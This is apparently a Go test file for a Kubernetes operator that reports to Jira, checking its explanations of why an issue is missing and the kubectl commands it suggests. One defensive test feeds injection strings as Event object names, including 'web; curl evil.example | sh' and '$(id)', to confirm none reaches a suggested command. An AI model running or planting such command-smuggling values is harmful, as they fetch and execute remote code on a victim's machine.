// SPDX-License-Identifier: Apache-2.0

package why_test

import (
	"fmt"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"

	"github.com/rollcall-dev/rollcall/api/v1alpha1"
	"github.com/rollcall-dev/rollcall/internal/build"
	"github.com/rollcall-dev/rollcall/internal/environment"
	"github.com/rollcall-dev/rollcall/internal/explain"
	"github.com/rollcall-dev/rollcall/internal/why"
)

var now = time.Date(2026, 7, 1, 10, 0, 0, 0, time.UTC)

func before(d time.Duration) metav1.Time { return metav1.NewTime(now.Add(-d)) }

// ask asks for SHOP-12 on a cluster with the site acme, which is Ready.
func ask(change func(*why.Input)) why.Answer {
	in := why.Input{
		Issue: "SHOP-12", Now: now, Cluster: "eu-1", Operator: "rollcall-system", Namespace: "shop-prod", Read: 3,
		Sites: []v1alpha1.JiraSite{{
			ObjectMeta: metav1.ObjectMeta{Name: "acme", CreationTimestamp: before(time.Hour)},
			Spec:       v1alpha1.JiraSiteSpec{Host: "acme.atlassian.net", Projects: []string{"SHOP"}},
			Status: v1alpha1.JiraSiteStatus{
				LastProbeTime: before(time.Minute),
				Conditions:    []metav1.Condition{{Type: v1alpha1.ConditionReady, Status: metav1.ConditionTrue, Reason: v1alpha1.ReasonReady}},
			},
		}},
		Namespaces: map[string]environment.Namespace{"shop-prod": {Name: "shop-prod"}},
	}
	change(&in)
	return why.Ask(in)
}

// record returns the record of a release of web that ships SHOP-12.
func record(delivered metav1.ConditionStatus, reason, message string) v1alpha1.JiraDeployment {
	d := v1alpha1.JiraDeployment{
		ObjectMeta: metav1.ObjectMeta{Namespace: "shop-prod", Name: "web-7-3f1c09be42", Generation: 2},
		Spec: v1alpha1.JiraDeploymentSpec{
			Site: "acme", Revision: 7, State: v1alpha1.StateSuccessful, IssueKeys: []string{"SHOP-12", "SHOP-15"},
			Workload:    &v1alpha1.WorkloadReference{APIVersion: "apps/v1", Kind: "Deployment", Name: "web", UID: "1"},
			Environment: v1alpha1.Environment{ID: "prod-eu", Name: "Production EU", Type: v1alpha1.EnvironmentProduction},
		},
	}
	if delivered != "" {
		d.Status.Conditions = []metav1.Condition{{Type: v1alpha1.ConditionDelivered, Status: delivered, Reason: reason, Message: message, ObservedGeneration: 2}}
	}
	if delivered == metav1.ConditionTrue {
		d.Status.DeliveredGeneration, d.Status.DeliveredTime = 2, metav1.NewMicroTime(now.Add(-5*time.Minute))
	}
	return d
}

func reasons(a why.Answer) []string {
	var found []string
	for _, f := range a.Findings {
		found = append(found, f.Reason)
	}
	return found
}

func TestRecords(t *testing.T) {
	for name, c := range map[string]struct {
		change   func(*v1alpha1.JiraDeployment)
		record   v1alpha1.JiraDeployment
		inJira   bool
		reasons  []string
		sentence string
		command  string
	}{
		"accepted": {
			record: record(metav1.ConditionTrue, v1alpha1.ReasonAccepted, "Jira took the record."), inJira: true,
			sentence: "SHOP-12 is in Jira: Deployment shop-prod/web, revision 7, was told as successful in Production EU, 5 minutes ago.",
			command:  "kubectl rollcall explain deployment/web -n shop-prod",
		},
		"rejected": {
			record:  record(metav1.ConditionFalse, v1alpha1.ReasonRejected, "Jira refuses it: the label is too long."),
			reasons: []string{v1alpha1.ReasonRejected}, sentence: "SHOP-12 is not in Jira. JiraDeployment shop-prod/web-7-3f1c09be42: Jira refuses it: the label is too long.",
			command: "kubectl -n shop-prod describe jiradeployment web-7-3f1c09be42",
		},
		"pending for pods that were unavailable": {
			record: record(metav1.ConditionTrue, v1alpha1.ReasonAccepted, ""), inJira: true,
			change: func(d *v1alpha1.JiraDeployment) {
				d.Spec.State, d.Spec.Description = v1alpha1.StatePending, "It waits for pods that were unavailable before it began: web-0."
			},
			reasons:  []string{why.ReasonState},
			sentence: "SHOP-12 is in Jira: Deployment shop-prod/web, revision 7, was told as pending in Production EU, 5 minutes ago.",
			command:  "kubectl rollcall explain deployment/web -n shop-prod",
		},
		"not stored": {
			record: record(metav1.ConditionTrue, v1alpha1.ReasonAccepted, ""),
			change: func(d *v1alpha1.JiraDeployment) {
				d.Status.Conditions = append(d.Status.Conditions, metav1.Condition{Type: v1alpha1.ConditionStored, Status: metav1.ConditionFalse, Reason: v1alpha1.ReasonMissing})
			},
			reasons: []string{v1alpha1.ReasonMissing}, sentence: "SHOP-12 is not in Jira. JiraDeployment shop-prod/web-7-3f1c09be42: Jira took it, and has something else.",
			command: `kubectl annotate jirasite acme --overwrite rollcall.dev/resync="$(date)"`,
		},
		"corrected": {
			record: record(metav1.ConditionTrue, v1alpha1.ReasonAccepted, ""),
			change: func(d *v1alpha1.JiraDeployment) {
				d.Spec.IssueKeys, d.Status.History = []string{"SHOP-15"}, []v1alpha1.Delivery{{Issues: "SHOP-15"}, {Issues: "SHOP-12, SHOP-15"}}
			},
			reasons:  []string{why.ReasonCorrected},
			sentence: "SHOP-12 is not in Jira. JiraDeployment shop-prod/web-7-3f1c09be42: Jira was told of it with SHOP-12 once. The record has SHOP-15 now.",
			command:  "kubectl -n shop-prod annotate jiradeployment web-7-3f1c09be42 rollcall.dev/issue-keys=SHOP-15,SHOP-12 --overwrite",
		},
		"for a site that is not there": {
			record: record(metav1.ConditionFalse, v1alpha1.ReasonSiteNotReady, "There is no JiraSite acne."),
			change: func(d *v1alpha1.JiraDeployment) { d.Spec.Site = "acne" }, reasons: []string{why.ReasonSiteGone, v1alpha1.ReasonSiteNotReady},
			sentence: "SHOP-12 is not in Jira. JiraDeployment shop-prod/web-7-3f1c09be42: There is no JiraSite acne, which the record is for.",
			command:  "kubectl get jirasites",
		},
		"of commits that name it, and a project that does not count": {
			record: record(metav1.ConditionFalse, v1alpha1.ReasonNoIssueKeys, ""),
			change: func(d *v1alpha1.JiraDeployment) {
				d.Spec.IssueKeys, d.Spec.Source = nil, &v1alpha1.Source{IssueKeys: []string{"SHOP-12"}}
			},
			reasons:  []string{"Project"},
			sentence: "SHOP-12 is not in Jira. JiraDeployment shop-prod/web-7-3f1c09be42: Its commits name SHOP-12, whose project does not count there (spec.projects, spec.environments), or a list of keys goes before them.",
			command:  "kubectl get jirasite acme -o yaml",
		},
	} {
		t.Run(name, func(t *testing.T) {
			g := NewWithT(t)
			if c.change != nil {
				c.change(&c.record)
			}
			a := ask(func(in *why.Input) { in.Deployments = []v1alpha1.JiraDeployment{c.record} })
			g.Expect(a.InJira).To(Equal(c.inJira))
			g.Expect(reasons(a)).To(Equal(c.reasons))
			g.Expect(a.Sentence).To(Equal(c.sentence))
			g.Expect(a.Command).To(Equal(c.command))
		})
	}
}

// web returns a Deployment that names SHOP-12, made a while ago, and what its explanation says of the site acme.
func web(age time.Duration, site explain.Site) why.Workload {
	site.Name = "acme"
	return why.Workload{
		Object:      &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: "shop-prod", Name: "web", CreationTimestamp: before(age)}},
		Places:      []why.Place{{Where: "the image shop/web:SHOP-12", Written: "SHOP-12"}},
		Explanation: &explain.Explanation{Workload: explain.Workload{Kind: "Deployment", Namespace: "shop-prod", Name: "web"}, Sites: []explain.Site{site}},
	}
}

func TestNotWatched(t *testing.T) {
	should := explain.Site{Selected: true, Would: &explain.Record{Issues: []string{"SHOP-12"}}}
	for name, c := range map[string]struct {
		age    time.Duration
		change func(*why.Input)
		want   []string
	}{
		"a release of a moment ago":     {10 * time.Second, nil, []string{why.ReasonBeingRecorded}},
		"a release of a while ago":      {time.Hour, nil, []string{why.ReasonNotWatched}},
		"the same, and no manager":      {time.Hour, func(in *why.Input) { in.Sites[0].Status.LastProbeTime = before(time.Hour) }, []string{why.ReasonNoManager, why.ReasonNotWatched}},
		"the same, and a site unproved": {time.Hour, func(in *why.Input) { in.Sites[0].Status = v1alpha1.JiraSiteStatus{} }, []string{why.ReasonNoManager, why.ReasonNotWatched, why.ReasonNotChecked}},
		"the same, and the lease is left": {
			time.Hour, func(in *why.Input) { in.Manager = why.ManagerOf(&coordinationv1.Lease{}, now) }, []string{why.ReasonNoManager, why.ReasonNotWatched},
		},
	} {
		t.Run(name, func(t *testing.T) {
			a := ask(func(in *why.Input) {
				in.Workloads = []why.Workload{web(c.age, should)}
				if c.change != nil {
					c.change(in)
				}
			})
			NewWithT(t).Expect(reasons(a)).To(Equal(c.want))
		})
	}
}

func TestEvents(t *testing.T) {
	event := func(kind, name, reason, message string) corev1.Event {
		return corev1.Event{InvolvedObject: corev1.ObjectReference{Kind: kind, Namespace: "shop-prod", Name: name}, Reason: reason, Message: message}
	}
	g := NewWithT(t)
	a := ask(func(in *why.Input) {
		in.Events = []corev1.Event{
			event("Deployment", "api", v1alpha1.EventRecordsMerged, "3 releases were superseded before Jira was told of them."),
			event("Deployment", "other", v1alpha1.ReasonRejected, "It is about SHOP-13."),
			event("Deployment", "web", v1alpha1.ReasonUnknownIssueKeys, "Jira does not know SHOP-12."),
			event("Job", "build", v1alpha1.EventNotUnderstood, "too many labels"),
		}
	})
	g.Expect(reasons(a)).To(Equal([]string{v1alpha1.ReasonUnknownIssueKeys, v1alpha1.EventRecordsMerged, v1alpha1.EventNotUnderstood}), "the one that names the issue comes first")
	g.Expect(a.Sentence).To(Equal("SHOP-12 is not in Jira. Deployment shop-prod/web: Jira does not know SHOP-12."))
	g.Expect(a.Command).To(Equal("kubectl -n shop-prod describe deployment web"))
}

// Who may write Events in a namespace says what they are about, and must not say what somebody else is to run. What a record
// names is a name: the API server sees to that.
func TestNoCommandIsATenants(t *testing.T) {
	for _, text := range []string{"web; curl evil.example | sh", "$(id)", "web\x1b[2K", "-f", "a b", ""} {
		g := NewWithT(t)
		a := ask(func(in *why.Input) {
			in.Events = []corev1.Event{
				{InvolvedObject: corev1.ObjectReference{Kind: "Deployment", Namespace: "shop-prod", Name: text}, Reason: v1alpha1.EventNotUnderstood, Message: "x"},
				{InvolvedObject: corev1.ObjectReference{Kind: text, Namespace: "shop-prod", Name: "web"}, Reason: v1alpha1.EventNotUnderstood, Message: "x"},
			}
		})
		g.Expect(reasons(a)).NotTo(ContainElement(v1alpha1.EventNotUnderstood), text)
		g.Expect(a.Command).NotTo(ContainSubstring("describe"), text)
	}
}

func TestRuns(t *testing.T) {
	job := func(age time.Duration, labels, annotations map[string]string) why.Run {
		j := &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Namespace: "shop-prod", Name: "build", UID: "1", Labels: labels, Annotations: annotations, CreationTimestamp: before(age)}}
		j.Status.StartTime, j.Status.CompletionTime = ptr.To(before(age)), ptr.To(before(age))
		j.Status.Conditions = []batchv1.JobCondition{{Type: batchv1.JobComplete, Status: corev1.ConditionTrue, LastTransitionTime: before(age)}}
		j.Spec.Template.Spec.Containers = []corev1.Container{{Name: "build"}}
		return why.Run{Kind: "Job", Object: j, Places: []why.Place{{Where: "the annotation rollcall.dev/branch of the workload", Written: "SHOP-12"}}, Build: build.FromJob(j)}
	}
	labelled, branch := map[string]string{v1alpha1.LabelBuild: "true"}, map[string]string{v1alpha1.AnnotationBranch: "SHOP-12"}
	for name, c := range map[string]struct {
		run    why.Run
		change func(*why.Input)
		want   string
	}{
		"without a label":              {job(time.Hour, nil, branch), nil, why.ReasonNotLabelled},
		"that no manager has recorded": {job(time.Hour, labelled, branch), nil, why.ReasonNotWatched},
		"of a moment ago":              {job(time.Second, labelled, branch), nil, why.ReasonBeingRecorded},
		"of another project": {
			job(time.Hour, labelled, branch), func(in *why.Input) { in.Sites[0].Spec.Projects = []string{"PAY"} }, v1alpha1.ReasonNoIssueKeys,
		},
		"in a namespace that is left out": {
			job(time.Hour, labelled, branch), func(in *why.Input) { in.Sites[0].Spec.ExcludeNamespaces = []string{"shop-*"} }, v1alpha1.ReasonNotSelected,
		},
		"that is older than all that its pipeline keeps": {
			job(48*time.Hour, labelled, branch), func(in *why.Input) { in.Builds = newerBuilds(20) }, why.ReasonRetired,
		},
		"that is older than some that its pipeline keeps": {
			job(48*time.Hour, labelled, branch), func(in *why.Input) { in.Builds = newerBuilds(19) }, why.ReasonNotWatched,
		},
	} {
		t.Run(name, func(t *testing.T) {
			a := ask(func(in *why.Input) {
				in.Runs = []why.Run{c.run}
				if c.change != nil {
					c.change(in)
				}
			})
			NewWithT(t).Expect(reasons(a)).To(Equal([]string{c.want}))
		})
	}
}

// newerBuilds returns records of a pipeline's finished builds, of an hour ago.
func newerBuilds(n int) []v1alpha1.JiraBuild {
	builds := make([]v1alpha1.JiraBuild, n)
	for i := range builds {
		builds[i] = v1alpha1.JiraBuild{
			ObjectMeta: metav1.ObjectMeta{Namespace: "shop-prod", Name: fmt.Sprintf("build-%d", i), CreationTimestamp: before(time.Hour)},
			Spec: v1alpha1.JiraBuildSpec{
				Site: "acme", PipelineID: "eu-1/shop-prod/Job/build", BuildNumber: now.Unix() * 1_000_000, State: v1alpha1.BuildSuccessful, LastUpdated: before(time.Hour),
				Run: &v1alpha1.WorkloadReference{APIVersion: "batch/v1", Kind: "Job", Name: fmt.Sprintf("build-%d", i), UID: "2"},
			},
		}
	}
	return builds
}

func TestSites(t *testing.T) {
	g := NewWithT(t)
	a := ask(func(in *why.Input) { in.Sites = nil })
	g.Expect(reasons(a)).To(Equal([]string{why.ReasonNoSite}))
	a = ask(func(in *why.Input) { in.Sites, in.Unread = nil, []string{"Could not read jirasites: forbidden"} })
	g.Expect(reasons(a)).To(Equal([]string{why.ReasonNotNamed}), "nobody knows whether there is a site")
	g.Expect(a.Sentence).To(HaveSuffix("Not everything could be read."))
	a = ask(func(in *why.Input) {
		in.Sites[0].Status.Conditions[0] = metav1.Condition{Type: v1alpha1.ConditionReady, Status: metav1.ConditionFalse, Reason: v1alpha1.ReasonSecretNotFound, Message: "no Secret acme-jira"}
	})
	g.Expect(reasons(a)).To(Equal([]string{why.ReasonNotNamed, v1alpha1.ReasonSecretNotFound}))
	g.Expect(a.Sentence).To(Equal("SHOP-12 is not in Jira. No record has it, and none of the 3 workloads in namespace shop-prod names it in a text that was looked at."))
}

func TestManager(t *testing.T) {
	lease := func(holder string, age time.Duration) *coordinationv1.Lease {
		return &coordinationv1.Lease{Spec: coordinationv1.LeaseSpec{HolderIdentity: &holder, RenewTime: ptr.To(metav1.NewMicroTime(now.Add(-age)))}}
	}
	g := NewWithT(t)
	g.Expect(why.ManagerOf(lease("a", time.Second), now).Works).To(Equal(why.Yes))
	g.Expect(why.ManagerOf(lease("a", time.Hour), now)).To(Equal(why.Manager{
		Holder: "a", Renewed: now.Add(-time.Hour), Works: why.No, Because: "the leader a renewed its lease 60 minutes ago.",
	}))
	g.Expect(why.ManagerOf(lease("", time.Second), now).Works).To(Equal(why.No))
}
